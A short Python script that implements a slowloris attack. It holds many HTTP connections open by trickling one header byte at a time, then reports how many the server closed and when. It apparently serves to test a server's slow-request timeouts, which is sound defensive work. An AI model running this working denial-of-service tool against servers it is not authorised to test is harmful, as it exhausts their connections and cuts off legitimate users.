#!/usr/bin/python3
"""Holds N slow connections to HOST:PORT: each sends one byte of a request
header every INTERVAL seconds and never finishes it.  Runs for at most
DURATION seconds, then prints how many connections were opened and how many
the server closed (and when the last one was closed), and exits.

usage: slowloris.py HOST PORT N INTERVAL DURATION
"""
import errno
import selectors
import socket
import sys
import time

HEADER = b"GET /v1/status HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    n, interval, duration = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    start = time.monotonic()
    sel = selectors.DefaultSelector()
    conns = {}
    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex((host, port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            continue
        conns[s] = 0
        sel.register(s, selectors.EVENT_READ)
    opened = len(conns)
    closed, last_closed = 0, None
    next_send = time.monotonic()
    while conns and time.monotonic() - start < duration:
        now = time.monotonic()
        if now >= next_send:
            for s in list(conns):
                pos = conns[s]
                try:
                    s.send(HEADER[pos:pos + 1])
                    conns[s] = min(pos + 1, len(HEADER) - 1)
                except OSError:
                    pass
            next_send = now + interval
        timeout = max(0.0, min(next_send, start + duration) - time.monotonic())
        for key, _ in sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                s.close()
                del conns[s]
                closed += 1
                last_closed = time.monotonic() - start
    for s in conns:
        s.close()
    print("opened %d closed_by_server %d last_closed_after %s" % (
        opened, closed, "%.1f" % last_closed if last_closed is not None else "-"))


main()
